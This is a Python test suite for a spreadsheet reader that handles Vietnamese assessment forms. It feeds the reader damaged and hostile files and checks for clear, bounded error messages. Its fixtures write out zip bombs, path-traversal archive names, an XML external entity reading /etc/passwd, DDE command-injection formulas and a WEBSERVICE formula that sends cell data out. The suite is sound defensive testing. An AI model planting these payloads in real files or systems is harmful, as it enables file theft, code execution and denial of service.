"""Damaged and hostile files: each gets one clear message that names the file and says what to do, in bounded time and memory."""

import datetime
import os
import random
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile

import pytest
from forms import sent_files
from forms.sent_files import FIRST_LINE, grid, repacked, write, zipped

from analysis.forms import reading
from analysis.forms.numbers import NOT_A_NUMBER, number
from analysis.paths import SOURCE

SHEET = "xl/worksheets/sheet1.xml"
ACTIONS = ("Hãy", "Nên", "Nếu", "Lần sau")


def good(folder):
    return write(folder / "good.xlsx", grid())


def changed(folder, change, part=SHEET, **more):
    return repacked(good(folder), folder / "bieu.xlsx", {part: change}, **more)


def with_cell(folder, line, column, cell):
    cells = grid()
    cells[line][column] = cell
    return write(folder / "bieu.xlsx", cells)


def saved(folder, name, content):
    (folder / name).write_bytes(content)
    return folder / name


def truncated(folder, share):
    content = good(folder).read_bytes()
    return saved(folder, "bieu.xlsx", content[: int(len(content) * share)])


def as_csv(folder, cells, encoding="utf-8-sig", mark=";", name="bieu.csv"):
    text = "\r\n".join(mark.join(str(cell) for cell in row) for row in cells)
    return saved(folder, name, text.encode(encoding))


def bomb(folder):
    return changed(folder, lambda part: part.replace(b"<sheetData>", b"<sheetData>" + b" " * (60 * 2**20)))


def bomb_of_many_parts(folder):
    return repacked(good(folder), folder / "bieu.xlsx", added={f"xl/worksheets/s{n}.xml": b"0" * 7 * 2**20 for n in range(20)})


def lying_bomb(folder):
    """A part that says it is 100 bytes long and inflates to 64 MB."""
    path = repacked(good(folder), folder / "bieu.xlsx", dropped=("docProps/app.xml",), added={"xl/extra.xml": b" " * (64 * 2**20)})
    content = path.read_bytes()
    honest = struct.pack("<I", 64 * 2**20)
    return saved(folder, "bieu.xlsx", content.replace(honest, struct.pack("<I", 100)))


def thousands_of_parts(folder):
    return repacked(good(folder), folder / "bieu.xlsx", added={f"docProps/{n}.xml": b"<a/>" for n in range(3000)})


def entities(part):
    declared = b'<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return part.replace(b"<worksheet", declared + b"<worksheet", 1)


def outside_entity(part):
    return part.replace(b"<workbook", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook', 1)


def blank_rows(part, count):
    rows = b"".join(b'<row r="%d" s="1" customFormat="1"/>' % number for number in range(100, 100 + count))
    return part.replace(b"</sheetData>", rows + b"</sheetData>")


def far_cell(reference):
    row = "".join(letter for letter in reference if letter.isdigit()).encode()
    cell = b'<row r="%s"><c r="%s"><v>1</v></c></row></sheetData>' % (row, reference.encode())
    return lambda part: part.replace(b"</sheetData>", cell)


def implicit_cells(part):
    wide = b"<row>" + b"<c><v>1</v></c>" * 16000 + b"</row>"
    return part.replace(b"</sheetData>", wide + b"<row><c><v>1</v></c></row>" * 15000 + b"</sheetData>")


def many_sheets(folder):
    return write(folder / "bieu.xlsx", grid(), more={f"Trang {n}": [["x"]] for n in range(150)})


def ole(*names):
    """The smallest OLE file with streams of these names."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<108I", header, 80, *([0xFFFFFFFF] * 108))
    table = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    directory = bytearray()
    for name in ("Root Entry", *names):
        text = name.encode("utf-16-le") + b"\x00\x00"
        directory += text.ljust(64, b"\x00") + struct.pack("<HBB", len(text), 5, 1) + b"\xff" * 12
        directory += b"\x00" * 36 + struct.pack("<II", 0xFFFFFFFE, 0) + b"\x00" * 4
    return bytes(header) + table + bytes(directory).ljust(512, b"\x00")


def circular_ole():
    content = bytearray(ole("Workbook"))
    struct.pack_into("<I", content, 512 + 4, 1)
    return bytes(content)


def real_xls(change=lambda content: content):
    return change((sent_files.FILES / "bieu-so-tu-phap.xls").read_bytes())


def ods(body, name="content.xml", more=None):
    spaces = "urn:oasis:names:tc:opendocument:xmlns"
    text = (
        f'<office:document-content xmlns:office="{spaces}:office:1.0" xmlns:table="{spaces}:table:1.0" '
        f'xmlns:text="{spaces}:text:1.0"><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    parts = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", name: text}
    return zipped({**parts, **(more or {}), "META-INF/manifest.xml": (more or {}).get("META-INF/manifest.xml", "<m/>")})


def repeated_ods():
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16000"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return ods(f'<table:table table:name="Biểu">{row * 60}</table:table>')


def legacy(folder):
    cells = grid()
    cells[1] = ["Së T− ph¸p"]
    cells[5][1], cells[6][1] = "C«ng t¸c chØ ®¹o, ®iÒu hµnh", "Ban hµnh kÕ ho¹ch; sè ®iÓm tù chÊm"
    return write(folder / "bieu.xlsx", cells)


def legacy_vni(folder):
    cells = grid()
    cells[1] = ["Sôû Tö phaùp"]
    cells[5][1] = "Coâng taùc chæ ñaïo, ñieàu haønh; ñieåm töï chaám"
    return write(folder / "bieu.xlsx", cells)


def wholly_legacy(folder):
    return write(folder / "bieu.xlsx", [["STT", "Tiªu chÝ", "§iÓm tèi ®a", "§iÓm tù chÊm"], ["1.1", "KÕ ho¹ch cña ®¬n vÞ", 1, 1]])


def encoded_twice(folder):
    cells = [[cell.encode().decode("latin-1") if isinstance(cell, str) else cell for cell in row] for row in grid()]
    return write(folder / "bieu.xlsx", cells)


def lost(folder):
    cells = [[cell.encode("cp1252", "replace").decode("cp1252") if isinstance(cell, str) else cell for cell in row] for row in grid()]
    return write(folder / "bieu.xlsx", cells)


def in_columns(count):
    cells = grid()
    cells[4] += [f"Cột {n}" for n in range(count)]
    return cells


def two_self_points(folder):
    cells = grid()
    cells[4][6] = "Điểm tự chấm"
    return write(folder / "bieu.xlsx", cells)


def hidden_table(folder):
    path = write(folder / "good.xlsx", grid(), more={"Trang bìa": [["Sở Tư pháp"]]})
    return repacked(path, folder / "bieu.xlsx", {"xl/workbook.xml": lambda part: part.replace(b'<sheet name="Bi', b'<sheet state="hidden" name="Bi')})


def split_in_sheets(folder):
    cells = grid()
    return write(folder / "bieu.xlsx", cells[:9], sheet="Lĩnh vực 1", more={"Lĩnh vực 2": cells[:5] + cells[9:]})


def two_drafts(folder):
    return write(folder / "bieu.xlsx", grid(), more={"Biểu 1 (2)": grid()})


def no_saved_value(folder):
    path = with_cell(folder, FIRST_LINE, 3, ("=0.25+0.25", 0.5))
    return repacked(path, folder / "tinh.xlsx", {SHEET: lambda part: part.replace(b"<v>0.5</v></c>", b"</c>", 1)})


def in_the_shared_texts(folder, text):
    return changed(folder, lambda part: part.replace(b"0/KH-STP", text).replace(b"1/KH-STP", text), part="xl/sharedStrings.xml")


def linked(kind):
    return {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://x"><%s/></externalLink>' % kind}


HTML = b"<html><body><table><tr><td>STT</td></tr></table></body></html>"
CASES = {
    # name: (rule, maker of the file)
    "no such file": ("file_missing", lambda f: f / "khong-co.xlsx"),
    "a folder with the ending of a workbook": ("file_unreadable", lambda f: (f / "bieu.xlsx").mkdir() or f / "bieu.xlsx"),
    "empty": ("file_empty", lambda f: saved(f, "bieu.xlsx", b"")),
    "only blanks": ("file_empty", lambda f: saved(f, "bieu.csv", b"\xef\xbb\xbf \r\n\r\n")),
    "only zero bytes": ("file_empty", lambda f: saved(f, "bieu.xlsx", b"\x00" * 4096)),
    "lock of Excel": ("lock_file", lambda f: saved(f, "~$bieu.xlsx", b"\x05Admin" + b" " * 160)),
    "lock of LibreOffice": ("lock_file", lambda f: saved(f, ".~lock.bieu.ods#", b",admin,may-tinh,;")),
    "unknown ending": ("unknown_ending", lambda f: saved(f, "bieu.pdf", b"%PDF-1.7 ...")),
    "no ending": ("unknown_ending", lambda f: saved(f, "bieu", good(f).read_bytes())),
    "ending of a macro workbook": ("macros", lambda f: saved(f, "bieu.xlsm", good(f).read_bytes())),
    "macro hidden in .xlsx": ("macros", lambda f: repacked(good(f), f / "bieu.xlsx", added={"xl/vbaProject.bin": b"\xd0\xcf"})),
    "old macro sheet": ("macros", lambda f: repacked(good(f), f / "bieu.xlsx", added={"xl/macrosheets/sheet1.xml": b"<m/>"})),
    "macro in .ods": ("macros", lambda f: saved(f, "bieu.ods", ods("", more={"Basic/Standard/Module1.xml": "<m/>"}))),
    "macro in .xls": ("macros", lambda f: saved(f, "bieu.xls", ole("Workbook", "_VBA_PROJECT_CUR"))),
    "renamed Word file": ("other_kind", lambda f: saved(f, "bieu.xlsx", zipped({"word/document.xml": "<w/>"}))),
    "renamed PowerPoint file": ("other_kind", lambda f: saved(f, "bieu.xlsx", zipped({"ppt/presentation.xml": "<p/>"}))),
    "renamed old Word file": ("other_kind", lambda f: saved(f, "bieu.xls", ole("WordDocument"))),
    "renamed zip": ("other_kind", lambda f: saved(f, "bieu.xlsx", zipped({"a.txt": "a"}))),
    "renamed PDF": ("other_kind", lambda f: saved(f, "bieu.xlsx", b"%PDF-1.4 abc")),
    "renamed picture": ("other_kind", lambda f: saved(f, "bieu.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200))),
    "renamed program": ("other_kind", lambda f: saved(f, "bieu.csv", b"MZ\x90\x00" + bytes(200))),
    "web page as .xls": ("other_kind", lambda f: saved(f, "bieu.xls", HTML)),
    "web page as .csv": ("other_kind", lambda f: saved(f, "bieu.csv", b"\xef\xbb\xbf" + HTML)),
    "plain text as .xlsx": ("other_kind", lambda f: saved(f, "bieu.xlsx", "Điểm;1".encode())),
    "random bytes as .xlsx": ("other_kind", lambda f: saved(f, "bieu.xlsx", b"\x8a\x01" + os.urandom(5000))),
    "random bytes as .csv": ("not_utf8", lambda f: saved(f, "bieu.csv", b"\x8a\x9f" + bytes(range(128, 256)) * 20)),
    "truncated at a tenth": ("broken_file", lambda f: truncated(f, 0.1)),
    "truncated at a half": ("broken_file", lambda f: truncated(f, 0.5)),
    "truncated at the end": ("broken_file", lambda f: truncated(f, 0.98)),
    "only the signature of a zip": ("broken_file", lambda f: saved(f, "bieu.xlsx", b"PK\x03\x04")),
    "wrong checksum": ("broken_file", lambda f: saved(f, "bieu.xlsx", flipped(good(f).read_bytes()))),
    "two parts of one name": ("broken_file", lambda f: twice(f)),
    "sheet is no XML": ("broken_file", lambda f: changed(f, lambda part: part[: len(part) // 2])),
    "sheet in UTF-16": ("broken_file", lambda f: changed(f, lambda part: part.decode().encode("utf-16"))),
    "list of sheets is missing": ("broken_file", lambda f: repacked(good(f), f / "bieu.xlsx", dropped=("xl/_rels/workbook.xml.rels",))),
    "truncated .xls": ("broken_file", lambda f: saved(f, "bieu.xls", real_xls(lambda content: content[:2000]))),
    "only the signature of .xls": ("broken_file", lambda f: saved(f, "bieu.xls", ole("Workbook")[:100])),
    ".xls that runs in a circle": ("broken_file", lambda f: saved(f, "bieu.xls", circular_ole())),
    ".xls without a workbook": ("broken_file", lambda f: saved(f, "bieu.xls", ole("Something"))),
    ".xls with an empty workbook": ("broken_file", lambda f: saved(f, "bieu.xls", ole("Workbook"))),
    "encrypted .xlsx": ("password", lambda f: saved(f, "bieu.xlsx", ole("EncryptionInfo", "EncryptedPackage"))),
    "encrypted .ods": ("password", lambda f: saved(f, "bieu.ods", ods("", more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}))),
    "zip with a password": ("password", lambda f: saved(f, "bieu.xlsx", locked(good(f).read_bytes()))),
    "zip bomb": ("unpacks_too_large", bomb),
    "zip bomb in many parts": ("unpacks_too_large", bomb_of_many_parts),
    "zip bomb that lies": ("unpacks_too_large", lying_bomb),
    "thousands of parts": ("unpacks_too_large", thousands_of_parts),
    "name with ../": ("unsafe_name", lambda f: repacked(good(f), f / "bieu.xlsx", added={"../../etc/cron.d/x": b"x"})),
    "absolute name": ("unsafe_name", lambda f: repacked(good(f), f / "bieu.xlsx", added={"/etc/passwd": b"x"})),
    "XML entities": ("xml_entities", lambda f: changed(f, entities)),
    "XML entity of a file": ("xml_entities", lambda f: changed(f, outside_entity, part="xl/workbook.xml")),
    "formula that starts a program": ("active_formula", lambda f: with_cell(f, 6, 3, ("=cmd|'/C calc.exe'!A0", 1))),
    "formula that fetches": ("active_formula", lambda f: with_cell(f, 6, 3, ('=WEBSERVICE("http://example.vn/"&A1)', 1))),
    "formula in small letters": ("active_formula", lambda f: with_cell(f, 6, 3, ('=webservice("http://example.vn/")', 1))),
    "formula spelt in numbers": ("active_formula", lambda f: changed(f, lambda part: part.replace(b"<v>0.5</v>", b"<f>&#82;TD(1)</f><v>1</v>", 1))),
    "text that starts a program": ("active_formula", lambda f: with_cell(f, 6, 4, "=cmd|'/C calc'!A0")),
    "CSV that starts a program": ("active_formula", lambda f: as_csv(f, [*grid(), ["9", "@SUM(1+1)*cmd|'/C calc'!A0"]])),
    "link to a program": ("active_formula", lambda f: repacked(good(f), f / "bieu.xlsx", added=linked(b"ddeLink"))),
    "formula in .ods": ("active_formula", lambda f: saved(f, "bieu.ods", ods('<table:table table:name="B"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)"/></table:table-row></table:table>'))),
    "named formula": ("active_formula", lambda f: changed(f, lambda part: part.replace(b"</sheets>", b"</sheets><definedNames><definedName name=\"a\">cmd|'/c x'!A0</definedName></definedNames>"), part="xl/workbook.xml")),
    "a cell at the end of the sheet": ("sheet_too_large", lambda f: changed(f, far_cell("XFD20000"))),
    "row and cell that differ": ("sheet_too_large", lambda f: changed(f, lambda part: part.replace(b'<c r="A5"', b'<c r="A1048576"'))),
    "cells without names": ("sheet_too_large", lambda f: changed(f, implicit_cells)),
    "repeated rows of .ods": ("sheet_too_large", lambda f: saved(f, "bieu.ods", repeated_ods())),
    "too many sheets": ("too_many_sheets", many_sheets),
    "CSV of Windows": ("not_utf8", lambda f: as_csv(f, [[str(cell) for cell in row] for row in grid()], encoding="utf-16-be")),
    "CSV with zero bytes": ("not_text", lambda f: saved(f, "bieu.csv", b"STT;Ti\x00eu chi;Diem toi da\n1;a;2")),
    "half a letter of UTF-16": ("not_utf8", lambda f: saved(f, "bieu.csv", b"\xff\xfeS")),
    "no cell filled": ("workbook_empty", lambda f: write(f / "bieu.xlsx", [])),
    "no table": ("no_table", lambda f: write(f / "bieu.xlsx", [["Kính gửi"], ["Sở Nội vụ"]])),
    "only a heading": ("no_rows", lambda f: write(f / "bieu.xlsx", grid()[:5])),
    "heading twice": ("heading_twice", two_self_points),
    "TCVN3": ("legacy_font", legacy),
    "VNI": ("legacy_font", legacy_vni),
    "TCVN3 even in the heading": ("legacy_font", wholly_legacy),
    "encoded twice": ("twice_encoded", encoded_twice),
    "letters lost": ("letters_lost", lost),
    "split in sheets": ("several_tables", split_in_sheets),
    "two drafts": ("second_table", two_drafts),
    "hidden table": ("hidden_sheet", hidden_table),
    "failed formula": ("failed_cells", lambda f: with_cell(f, 6, 3, ("=1/0", "#DIV/0!"))),
    "formula without a value": ("formula_without_value", no_saved_value),
    "very long cell": ("cell_too_long", lambda f: as_csv(f, [*grid(), ["2.3", "x" * 50_000]])),
    "links to other files": ("external_links", lambda f: repacked(good(f), f / "bieu.xlsx", added=linked(b"externalBook"))),
    "wrong ending": ("ending_differs", lambda f: saved(f, "bieu.xls", good(f).read_bytes())),
}  # fmt: skip


def flipped(content):
    at = content.index(b"xl/worksheets/sheet1.xml") + 60
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def locked(content):
    """Set the mark of encryption on the first entry, in its own header and in the directory."""
    changed_content = bytearray(content)
    changed_content[6] |= 1
    changed_content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed_content)


def twice(folder):
    path = repacked(good(folder), folder / "bieu.xlsx")
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning):
        archive.writestr(SHEET, b"<worksheet/>")
    return path


def bounded(path):
    tracemalloc.start()
    began = time.monotonic()
    form = reading.read(path, [sent_files.criteria()])
    spent, (_, most) = time.monotonic() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert spent < 20 and most < 600 * 2**20
    return form


@pytest.mark.parametrize("name", CASES)
def test_each_bad_file_gets_one_clear_message(name, tmp_path):
    rule, make = CASES[name]
    path = make(tmp_path)
    form = bounded(path)
    found = [one for one in form.problems if one.rule == rule]
    assert len(found) == 1, [one.rule for one in form.problems]
    (message,) = found
    assert path.name in message.message_vi and path.name in message.message_en
    assert any(action in message.message_vi for action in ACTIONS)
    assert [one.rule for one in form.problems if one.severity == "error"] == ([rule] if message.severity == "error" else [])


def merged_in_circles(part):
    areas = ["C5:A3", "A1:B2", "B2:A1", "A5:A5", "A1:XFD1048576", "B5:C6"]
    merges = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    return part.replace(b"</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>".encode())


def with_value(value):
    return lambda part: part.replace(b'<c r="D7"><v>0.5</v></c>', b'<c r="D7"><v>%s</v></c>' % value)


def without_name(part):
    return part.replace("Biểu 1".encode(), b"")


READ = {
    # name: (maker of the file, what the first leaf has for its self points)
    "a million blank rows": (lambda f: changed(f, lambda part: blank_rows(part, 900_000)), 0.5),
    "a dimension that lies": (lambda f: changed(f, lambda part: part.replace(b'<dimension ref="A1:G12"/>', b'<dimension ref="A1:XFD1048576"/>')), 0.5),
    "a blank at the end of the sheet": (lambda f: changed(f, far_cell("A1048576")), 0.5),
    "ten thousand columns": (lambda f: write(f / "bieu.xlsx", in_columns(10_000)), 0.5),
    "merged areas in circles": (lambda f: changed(f, merged_in_circles), 0.5),
    "a sheet without a name": (lambda f: changed(f, without_name, part="xl/workbook.xml"), 0.5),
    "infinity for points": (lambda f: changed(f, with_value(b"1e999")), float("inf")),
    "minus nothing for points": (lambda f: changed(f, with_value(b"-0")), 0.0),
    "true for points": (lambda f: with_cell(f, 6, 3, True), True),
    "a date for points": (lambda f: with_cell(f, 6, 3, datetime.date(2024, 5, 1)), datetime.date(2024, 5, 1)),
    "text for points": (lambda f: with_cell(f, 6, 3, "một"), "một"),
    "a failed formula for points": (lambda f: with_cell(f, 6, 3, ("=1/0", "#DIV/0!")), "#DIV/0!"),
    "HTML in a title": (lambda f: with_cell(f, 6, 5, "<script>alert(1)</script>"), 0.5),
    "HTML in the name of the unit": (lambda f: with_cell(f, 1, 0, "Sở <b onload=x>Tư pháp</b>"), 0.5),
    "a formula as text": (lambda f: with_cell(f, 6, 5, "=1+1"), 0.5),
    "a long text": (lambda f: with_cell(f, 6, 5, "a" * 32_000), 0.5),
    "CSV with commas": (lambda f: as_csv(f, grid(), mark=","), "0.5"),
    "CSV with tabs in UTF-16": (lambda f: as_csv(f, grid(), mark="\t", encoding="utf-16"), "0.5"),
    "CSV without a mark of its encoding": (lambda f: as_csv(f, grid(), encoding="utf-8"), "0.5"),
    "a workbook that says .xls": (lambda f: saved(f, "bieu.xls", good(f).read_bytes()), 0.5),
    "an .xls of LibreOffice": (lambda f: saved(f, "bieu.xls", real_xls()), 1.0),
    "an .ods of LibreOffice": (lambda f: saved(f, "bieu.ods", (sent_files.FILES / "bieu-so-tu-phap.ods").read_bytes()), 1.0),
}  # fmt: skip


@pytest.mark.parametrize("name", READ)
def test_each_odd_file_is_read_as_it_stands(name, tmp_path):
    make, expected = READ[name]
    form = bounded(make(tmp_path))
    found = sent_files.points_of(form)["1.1"]
    assert found == expected and type(found) is type(expected)
    assert not [one for one in form.problems if one.severity == "error"]


def test_a_number_that_is_none_stays_none(tmp_path):
    found = sent_files.points_of(bounded(changed(tmp_path, with_value(b"NaN"))))["1.1"]
    assert found != found and number(found) is NOT_A_NUMBER


@pytest.mark.parametrize("ending", ["xls", "ods", "xlsx"])
def test_bytes_changed_at_random_never_stop_the_reading(ending, tmp_path):
    source = good(tmp_path) if ending == "xlsx" else sent_files.FILES / f"bieu-so-tu-phap.{ending}"
    content, chance = source.read_bytes(), random.Random(7)
    for _ in range(150):
        damaged = bytearray(content[: chance.choice([len(content), chance.randrange(len(content))])])
        for _ in range(chance.choice([1, 5, 40])):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        form = reading.read(saved(tmp_path, f"bieu.{ending}", bytes(damaged)), [])
        assert form.rows or form.problems


def test_a_damaged_xls_leaves_the_terminal_quiet(tmp_path):
    path = saved(tmp_path, "bieu.xls", real_xls(lambda content: content[:4700] + b"\xff" * (len(content) - 4700)))
    command = f"from analysis.forms import reading; print(reading.read({str(path)!r}, []).problems[0].rule)"
    done = subprocess.run([sys.executable, "-c", command], capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(SOURCE.parent)})
    assert done.stderr == "" and done.stdout
